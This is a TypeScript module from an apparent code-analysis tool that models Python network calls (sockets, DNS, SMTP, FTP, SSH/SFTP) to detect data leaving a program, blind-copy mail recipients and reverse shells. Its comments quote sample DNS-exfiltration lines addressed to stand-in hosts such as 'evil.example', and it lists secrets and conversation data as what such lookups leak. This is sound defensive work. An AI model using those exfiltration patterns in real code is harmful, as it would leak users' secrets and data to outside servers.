import type { Endpoint, Taint } from '../../facts.js';
import { endpointOf } from '../../hosts.js';
import { arg } from './call-values.js';
import type { Call, Ctx, Handler } from './context.js';
import { contentsOf } from './files.js';
import { derive, knownText, type PV, slot, str, taint } from './pv.js';

/**
 * Sockets and other channels: raw sockets (`connect` then `send`), DNS lookups whose name carries data
 * (`socket.gethostbyname(f"{chunk}.x.example")`, dnspython), mail (smtplib), FTP, SSH/SFTP (paramiko).
 * A connected socket is remembered for the reverse-shell pattern (process.ts).
 */

/** The endpoint of a `(host, port)` tuple or a host string. */
function endpointOfAddress(ctx: Ctx, addr: PV | undefined): { endpoint: Endpoint; host?: PV } {
  const host = addr?.items?.[0] ?? addr;
  if (!host) return { endpoint: { cls: 'unknown' } };
  const port = addr?.items?.[1];
  const text = host.v.text + (port && port.num !== undefined ? `:${port.num}` : '');
  return { endpoint: endpointOf(text, ctx.unit.hosts), host };
}

/** A new instance that remembers its endpoint (state is shared by every copy of the value). */
function instance(ref: string, endpoint?: Endpoint, v?: PV): PV {
  return { ...(v ?? derive(`\${${ref}}`, [])), ref, state: endpoint ? { endpoint } : {} };
}

function endpointIn(p: PV | undefined): Endpoint {
  return (p?.state?.endpoint as Endpoint | undefined) ?? { cls: 'unknown' };
}

const connect: Handler = (ctx, call) => {
  const state = call.self?.state;
  if (!state) return undefined;
  const { endpoint } = endpointOfAddress(ctx, arg(call, 0, 'address'));
  state.endpoint = endpoint;
  ctx.reverse.endpoint = call.self;
  return str('None');
};

const createConnection: Handler = (ctx, call) => {
  const { endpoint } = endpointOfAddress(ctx, arg(call, 0, 'address'));
  const s = instance('socket.socket()', endpoint);
  ctx.reverse.endpoint = s;
  return s;
};

const sendOn =
  (channel: 'socket' | 'mail' | 'other', dataOf: (call: Call) => PV | undefined): Handler =>
  (ctx, call) => {
    const data = dataOf(call);
    if (!data) return undefined;
    ctx.emit({ kind: 'send', endpoint: endpointIn(call.self), channel, data: data.v }, call.node);
    return str('None');
  };

/**
 * `smtp.sendmail(from, to_addrs, msg)`: the envelope's recipients get the message whatever its headers say,
 * so a literal address among them beside one the call fills (`[to, ARCHIVE]`, `[to] + [ARCHIVE]`) is a blind
 * copy, what a `Bcc` header becomes on the wire: kept in the data as one (src/analysis/copy-recipients.ts).
 */
const sendmail: Handler = (ctx, call) => {
  const msg = arg(call, 2, 'msg');
  if (!msg) return undefined;
  const to = arg(call, 1, 'to_addrs');
  const items = to?.items ?? [];
  const fixed = items.some((i) => !i.v.literal)
    ? items.filter((i) => i.v.literal && i.v.text.includes('@')).map((i) => i.v.text.slice(0, 120))
    : [];
  const data =
    fixed.length > 0 ? derive(`${msg.v.text}\nBcc: ${fixed.slice(0, 8).join(', ')}`, [msg, to]) : msg;
  ctx.emit({ kind: 'send', endpoint: endpointIn(call.self), channel: 'mail', data: data.v }, call.node);
  return str('None');
};

const sendTo: Handler = (ctx, call) => {
  const data = call.args[0];
  if (!data) return undefined;
  const { endpoint } = endpointOfAddress(ctx, call.args[call.args.length - 1]);
  ctx.emit({ kind: 'send', endpoint, channel: 'socket', data: data.v }, call.node);
  return str('None');
};

const recv: Handler = (_ctx, call) => {
  const from = endpointIn(call.self).url ?? '';
  return taint(derive(slot('received'), []), 'download', { from });
};

const fileno: Handler = (_ctx, call) => ({
  ...derive(slot('fileno'), []),
  ref: 'socket.fileno()',
  state: call.self?.state ?? {},
});

/** Taints that make a DNS name carry data (not a lookup of a configured host). */
const DATA_TAINTS: readonly Taint[] = ['secret', 'file', 'system-info', 'conversation', 'env', 'decoded'];

/** What a configured host name carries: settings from the environment or a file, nothing else. */
const CONFIG_TAINTS: readonly Taint[] = ['env', 'file', 'unknown'];

/** `gethostbyname(f"{data}.evil.example")`: the lookup itself sends the data to the domain's server. */
const dnsLookup: Handler = (ctx, call) => {
  const name = arg(call, 0, 'qname') ?? arg(call, 0, 'host');
  if (!name || knownText(name) !== undefined) return undefined;
  if (!name.v.taints.some((t) => DATA_TAINTS.includes(t))) return undefined;
  const suffix = /\}\.?([\w.-]{3,253})$/.exec(name.v.text)?.[1];
  // One configured value as the whole name (`gethostbyname(urlparse(os.environ["HOOK_URL"]).hostname)`, an
  // SSRF guard resolving the webhook its settings file names) looks that host up: carrying data needs labels in
  // front of a domain someone runs, or a secret, the conversation or decoded bytes in the name. (`.hostname`
  // after the slot is the attribute read, not a domain: a domain has a dot.)
  const domain = suffix?.includes('.') ? suffix : undefined;
  if (!domain && name.v.taints.every((t) => CONFIG_TAINTS.includes(t))) return undefined;
  const endpoint = suffix ? endpointOf(suffix, ctx.unit.hosts) : ({ cls: 'unknown' } as Endpoint);
  ctx.emit({ kind: 'send', endpoint, channel: 'dns', data: name.v }, call.node);
  return derive(slot('address'), [name]);
};

const server =
  (ref: string): Handler =>
  (ctx, call) => {
    const host = arg(call, 0, 'host');
    return instance(ref, host ? endpointOfAddress(ctx, host).endpoint : undefined);
  };

const reconnect: Handler = (ctx, call) => {
  const state = call.self?.state;
  const host = arg(call, 0, 'hostname') ?? arg(call, 0, 'host');
  if (state && host) state.endpoint = endpointOfAddress(ctx, host).endpoint;
  return str('None');
};

/** `sftp.put(local, remote)`: the local file's contents leave. */
const sftpPut: Handler = (ctx, call) => {
  const local = arg(call, 0, 'localpath');
  if (!local) return undefined;
  ctx.emit(
    { kind: 'send', endpoint: endpointIn(call.self), channel: 'other', data: contentsOf(ctx, local).v },
    call.node,
  );
  return str('None');
};

const sameChannel: Handler = (_ctx, call) =>
  call.self && { ...call.self, ref: `${call.self.ref ?? ''}.sftp()` };

export const SOCKET_HANDLERS: Array<[string, Handler]> = [
  ['socket.socket', () => instance('socket.socket()')],
  ['socket.socket().connect', connect],
  ['socket.socket().connect_ex', connect],
  ['socket.create_connection', createConnection],
  ['socket.socket().send', sendOn('socket', (c) => c.args[0])],
  ['socket.socket().sendall', sendOn('socket', (c) => c.args[0])],
  ['socket.socket().sendto', sendTo],
  ['socket.socket().recv', recv],
  ['socket.socket().recvfrom', recv],
  ['socket.socket().makefile', recv],
  ['socket.socket().fileno', fileno],
  ['ssl.wrap_socket', (_ctx, call) => call.args[0]],
  ['ssl.create_default_context().wrap_socket', (_ctx, call) => call.args[0]],
  ['ssl.SSLContext().wrap_socket', (_ctx, call) => call.args[0]],
  ['socket.gethostbyname', dnsLookup],
  ['socket.gethostbyname_ex', dnsLookup],
  ['socket.getaddrinfo', dnsLookup],
  ['dns.resolver.resolve', dnsLookup],
  ['dns.resolver.query', dnsLookup],
  ['smtplib.SMTP', server('smtplib.SMTP()')],
  ['smtplib.SMTP_SSL', server('smtplib.SMTP()')],
  ['smtplib.SMTP().connect', reconnect],
  ['smtplib.SMTP().sendmail', sendmail],
  ['smtplib.SMTP().send_message', sendOn('mail', (c) => arg(c, 0, 'msg'))],
  ['ftplib.FTP', server('ftplib.FTP()')],
  ['ftplib.FTP_TLS', server('ftplib.FTP()')],
  ['ftplib.FTP().connect', reconnect],
  ['ftplib.FTP().storbinary', sendOn('other', (c) => arg(c, 1, 'fp'))],
  ['ftplib.FTP().storlines', sendOn('other', (c) => arg(c, 1, 'fp'))],
  ['paramiko.SSHClient', () => instance('paramiko.SSHClient()')],
  ['paramiko.SSHClient().connect', reconnect],
  ['paramiko.SSHClient().exec_command', sendOn('other', (c) => arg(c, 0, 'command'))],
  ['paramiko.SSHClient().open_sftp', sameChannel],
  ['paramiko.SSHClient().sftp().put', sftpPut],
  ['paramiko.SSHClient().sftp().putfo', sendOn('other', (c) => c.args[0])],
];
